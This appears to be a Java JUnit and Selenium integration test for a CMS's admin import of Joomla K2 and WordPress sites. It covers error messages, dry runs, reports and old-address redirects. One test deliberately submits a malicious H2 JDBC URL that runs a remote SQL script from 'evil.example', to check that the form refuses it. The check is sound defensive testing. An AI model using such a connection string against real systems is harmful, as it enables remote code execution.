package org.bayan.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.channels.FileChannel;
import java.nio.channels.FileLock;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.bayan.testing.K2Fixture;
import org.bayan.testing.WxrFixture;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.openqa.selenium.By;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * Moving in, on the built WAR on a Tomcat of its own with an empty site (no demo content): bad
 * sources refused with a clear message and nothing written; then, in headless Chromium, an admin
 * runs a dry run and an import of a K2 site (a real MariaDB) from /admin/import, watches it,
 * reads the report, and follows an old K2 address to the imported statement with its photo;
 * then a WordPress export over HTTP, and its old addresses. Needs BAYAN_TEST_MARIADB_URL.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class ImportIT {

    static final String PASSWORD = "import-admin-password-2026";
    static OwnTomcat server;
    static Process tomcat;
    static Site site;
    static Path home;
    static Path work;
    static K2Fixture k2;
    /** Varnish (behind it nginx) in front of the one node, to see that an import purges it; null when not installed. */
    static FrontServers front;

    @BeforeAll
    static void start() throws Exception {
        org.junit.jupiter.api.Assumptions.assumeTrue(K2Fixture.serverUrl() != null,
                "MariaDB not set: BAYAN_TEST_MARIADB_URL names a server for the import's tests");
        k2 = K2Fixture.site();
        home = Path.of("target", "import-home").toAbsolutePath();
        work = Path.of("target", "import-sources").toAbsolutePath();
        OwnTomcat.deleteTree(home);
        OwnTomcat.deleteTree(work);
        K2Fixture.files(work.resolve("joomla"));
        WxrFixture.write(work.resolve("wordpress"));
        List<String> settings = new java.util.ArrayList<>(List.of("-Dbayan.home=" + home, "-Dbayan.admin.password=" + PASSWORD,
                "-Dbayan.demo=false", "-Dbayan.backup.interval=0"));
        if (FrontServers.available()) {
            front = new FrontServers("import");
            settings.add("-Dbayan.purge.urls=" + front.purgeUrl());
        }
        server = new OwnTomcat("import", settings);
        if (front != null) {
            front.start(server.port(), server.port());
        }
        tomcat = server.start(1);
        server.awaitReady(tomcat, 1);
        site = server.site();
    }

    @AfterAll
    static void stop() throws Exception {
        if (tomcat != null) {
            tomcat.destroy();
            tomcat.waitFor();
        }
        if (front != null) front.close();
        if (k2 != null) k2.close();
    }

    static Map<String, String> k2Form(String url, String files, String mode) {
        Map<String, String> form = new HashMap<>(Map.of("source", "k2", "k2Url", url, "k2User", "", "k2Password", "",
                "k2Prefix", K2Fixture.PREFIX, "k2Files", files, "translations", "", "wxrFile", "", "uploads", ""));
        form.put("mode", mode);
        return form;
    }

    /** The form's answer: its status and the refusal it shows. */
    static List<Object> refused(Session admin, Map<String, String> form) {
        admin.get("/admin/import");
        Site.Page answer = admin.post("/admin/import", form);
        return List.of(answer.status(), answer.html().select("main .flash.warning").text());
    }

    @Test
    @Order(1)
    void badSourcesAreRefusedWithAClearMessageAndNothingIsWritten() throws Exception {
        Session admin = Session.login(site, "admin", PASSWORD);
        String files = work.resolve("joomla").toString();
        String wrongPassword = k2.url().replaceFirst("user=[^&]*", "user=no_such_user_k2") + "&password=wrong";
        List<Object> denied = refused(admin, k2Form(wrongPassword, files, "dry"));
        assertEquals(400, denied.get(0));
        assertTrue(((String) denied.get(1)).startsWith("The K2 database refused the user name or password"), denied.toString());

        List<Object> wrongUrl = refused(admin, k2Form("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'", files, "dry"));
        assertEquals(List.of(400, "The K2 database’s address must be a JDBC URL of MariaDB or MySQL: jdbc:mariadb://host:3306/database"),
                wrongUrl, "only MariaDB's driver, never another the WAR carries");

        try (K2Fixture empty = K2Fixture.empty()) {
            List<Object> notK2 = refused(admin, k2Form(empty.url(), files, "dry"));
            assertEquals(400, notK2.get(0));
            assertTrue(((String) notK2.get(1)).contains("is not a Joomla K2 site: it has no table jos_k2_items"), notK2.toString());
        }
        List<Object> noFolder = refused(admin, k2Form(k2.url(), work.resolve("nowhere").toString(), "dry"));
        assertEquals(List.of(400, "There is no folder " + work.resolve("nowhere") + " on this machine."), noFolder);
        List<Object> notJoomla = refused(admin, k2Form(k2.url(), work.toString(), "dry"));
        assertEquals(List.of(400, "The Joomla site’s folder has no " + work.resolve("media/k2/items")
                + ": give the folder that holds media/k2/items"), notJoomla, "told on the form, not after the job started");
        List<Object> relative = refused(admin, k2Form(k2.url(), "joomla", "dry"));
        assertEquals(400, relative.get(0));

        Path cut = work.resolve("cut.xml");
        String whole = Files.readString(work.resolve("wordpress/export.xml"));
        Files.writeString(cut, whole.substring(0, whole.length() / 3));
        Map<String, String> wxr = new HashMap<>(k2Form("", "", "run"));
        wxr.put("source", "wordpress");
        wxr.put("wxrFile", cut.toString());
        List<Object> malformed = refused(admin, wxr);
        assertEquals(400, malformed.get(0));
        assertTrue(((String) malformed.get(1)).startsWith("The WordPress export cut.xml is not well-formed XML (line "), malformed.toString());

        // Another import holds the lock (the command line, on this data folder): a second is refused.
        Path lockFile = home.resolve("imports/import.lock");
        Files.createDirectories(lockFile.getParent());
        try (FileChannel channel = FileChannel.open(lockFile, StandardOpenOption.CREATE, StandardOpenOption.WRITE);
             FileLock held = channel.lock()) {
            assertEquals(List.of(409, "An import is running already: wait for it to end."), refused(admin, k2Form(k2.url(), files, "run")));
        }
        assertTrue(site.get("/").html().select(".listing .entry, .lead").isEmpty(), "nothing half-imported: the site is empty still");
        assertEquals(404, site.get("/index.php?option=com_k2&view=item&id=101").status());
    }

    @Test
    @Order(2)
    void anAdminImportsAK2SiteFromTheBrowserAndFollowsAnOldAddressToItsStatement() throws Exception {
        ChromeDriver browser = Browser.start();
        try {
            WebDriverWait wait = new WebDriverWait(browser, Duration.ofSeconds(60));
            Browser.login(browser, wait, site, "admin", PASSWORD);
            browser.findElement(By.linkText("Import")).click();
            wait.until(ExpectedConditions.textToBe(By.tagName("h1"), "Import a site"));
            fill(browser, k2.url(), work.resolve("joomla").toString());
            browser.findElement(By.cssSelector("button[name=mode][value=dry]")).click();
            wait.until(ExpectedConditions.textToBePresentInElementLocated(By.cssSelector("main .flash"), "Dry run done in"));
            assertEquals("From Joomla K2, dry run", browser.findElement(By.tagName("h1")).getText());
            String counts = browser.findElement(By.cssSelector("table.counts")).getText();
            assertTrue(counts.contains("Statements read 13"), counts);
            assertTrue(counts.contains("Readers’ comments (to the file) 2"), counts);
            String problems = browser.findElement(By.id("problems-title")).getText();
            assertTrue(problems.startsWith("Problems: "), problems);
            assertTrue(browser.findElement(By.tagName("main")).getText().contains("Zero dates (0000-00-00)"), "the zero date named");
            assertTrue(site.get("/").html().select(".listing .entry").isEmpty(), "a dry run wrote nothing");

            browser.findElement(By.linkText("Back to the import")).click();
            wait.until(ExpectedConditions.textToBe(By.tagName("h1"), "Import a site"));
            fill(browser, k2.url(), work.resolve("joomla").toString());
            browser.findElement(By.cssSelector("button[name=mode][value=run]")).click();
            // The job's page: its progress while it runs (the page refreshes itself), then its report.
            wait.until(ExpectedConditions.textToBe(By.tagName("h1"), "From Joomla K2"));
            String job = browser.getCurrentUrl();
            assertTrue(job.matches(".*/admin/import/[0-9]+$"), job);
            wait.until(ExpectedConditions.textToBePresentInElementLocated(By.cssSelector("main .flash"), "Import done in"));
            // Closed and opened again: the same report, from the list of imports.
            browser.get(site.url("/admin/import"));
            browser.findElement(By.cssSelector("table.rows tbody tr:first-child a")).click();
            wait.until(ExpectedConditions.textToBePresentInElementLocated(By.cssSelector("main .flash"), "Import done in"));
            assertEquals(job, browser.getCurrentUrl());
            assertEquals("13 of 13 items", browser.findElement(By.id("progress-line")).getText(), "the progress, at its end");
            assertEquals("13", browser.findElement(By.tagName("progress")).getAttribute("value"));
            String came = browser.findElement(By.cssSelector("table.counts")).getText();
            assertTrue(came.contains("Statements made 13") && came.contains("Item images 2"), came);
            String redirects = browser.findElement(By.cssSelector("table.redirects")).getText();
            assertTrue(redirects.contains("/index.php?option=com_k2&view=item&id=101:coalition-calls-for-ceasefire "
                    + "/media-center/coalition-news/item/101-coalition-calls-for-ceasefire"), redirects);
            assertTrue(!redirects.contains("does not answer"), "every example answers: " + redirects);
            String comments = browser.findElement(By.linkText("The readers’ comments (CSV)")).getAttribute("href");
            Session admin = Session.login(site, "admin", PASSWORD);
            Site.Page csv = admin.get(java.net.URI.create(comments).getRawPath());
            assertEquals(200, csv.status());
            assertTrue(csv.body().contains("Reader One"), csv.body());
            Site.Page reader = site.get(java.net.URI.create(comments).getRawPath());
            assertEquals(302, reader.status(), "not for readers: the staff login");
            assertTrue(reader.header("Location").contains("/login"), reader.header("Location"));

            // A reader follows an old link: one hop to the statement, its photo shown.
            browser.manage().deleteAllCookies();
            browser.get(site.url("/en/media-center/coalition-news/item/101-coalition-calls-for-ceasefire.html"));
            wait.until(ExpectedConditions.textToBe(By.tagName("h1"), "Coalition Calls for Comprehensive Ceasefire"));
            assertTrue(browser.getCurrentUrl().endsWith("/media-center/coalition-news/item/101-coalition-calls-for-ceasefire"),
                    browser.getCurrentUrl());
            Object width = browser.executeScript("var img = document.querySelector('article img');"
                    + " return img && img.complete ? img.naturalWidth : 0;");
            assertTrue(((Number) width).intValue() > 0, "the item's image, loaded");
        } finally {
            browser.quit();
        }
    }

    @Test
    @Order(3)
    void aWordPressExportComesOverAndItsOldAddressesAnswer() throws Exception {
        Session admin = Session.login(site, "admin", PASSWORD);
        Map<String, String> form = new HashMap<>(k2Form("", "", "run"));
        form.put("source", "wordpress");
        form.put("wxrFile", work.resolve("wordpress/export.xml").toString());
        form.put("uploads", WxrFixture.uploads(work.resolve("wordpress")).toString());
        String title = "Hello world!"; // WordPress's post 1: the K2 site had no such statement
        if (front != null) {
            front.keep("/");
            assertFalse(front.varnish().get("/").html().select(".entry-title").eachText().contains(title));
        }
        admin.get("/admin/import");
        Site.Page started = admin.post("/admin/import", form);
        assertEquals(302, started.status(), started.body());
        String job = java.net.URI.create(started.header("Location")).getRawPath();
        Site.Page report = admin.get(job);
        for (int i = 0; i < 120 && report.header("Refresh") != null; i++) {
            Thread.sleep(500);
            report = admin.get(job);
        }
        assertTrue(report.html().select("main .flash").text().startsWith("Import done in"), report.html().select("main").text());
        if (front != null) {
            Duration shown = SiteNodes.await(front.varnish(), "/",
                    page -> page.html().select(".entry-title").eachText().contains(title), SiteNodes.VISIBLE_WITHIN);
            System.out.println("[bayan] import: the imported statement shown through Varnish " + shown.toMillis() + " ms after the import ended");
        }
        // K2's item 11 was no statement, so the post keeps its id; WordPress's post 1 does too (K2 has no 1).
        Map<String, String> expected = new java.util.LinkedHashMap<>();
        String post = "/media-center/coalition-news/item/11-coalition-calls-for-ceasefire";
        expected.put("/?p=11", post);
        expected.put("/2018/05/02/coalition-calls-for-ceasefire/", post);
        expected.put("/category/media-center/coalition-news/", "/media-center/coalition-news");
        expected.put("/tag/russia/", "/tag/russia");
        for (var e : expected.entrySet()) {
            Site.Page answer = site.get(e.getKey());
            assertEquals(301, answer.status(), e.getKey());
            String path = java.net.URI.create(answer.header("Location")).getRawPath();
            assertEquals(java.net.URI.create("http://x" + e.getValue().replace("حمص", "%D8%AD%D9%85%D8%B5")).getRawPath(), path, e.getKey());
            assertEquals(200, site.get(path).status(), "one hop: " + path);
        }
        Site.Page picture = site.get("/wp-content/uploads/2018/05/crowd-300x169.jpg");
        assertEquals(301, picture.status());
        assertEquals(200, site.get(java.net.URI.create(picture.header("Location")).getRawPath()).status(), "the photo, in a size");
        Site.Page draft = site.get("/?p=12");
        assertEquals(200, draft.status(), "a draft is no address: the home page answers, as WordPress's own did");
        assertEquals(null, draft.header("Location"));
    }

    private static void fill(ChromeDriver browser, String url, String files) {
        browser.findElement(By.cssSelector("input[name=source][value=k2]")).click();
        browser.findElement(By.id("k2Url")).sendKeys(url);
        browser.findElement(By.id("k2Files")).sendKeys(files);
    }
}
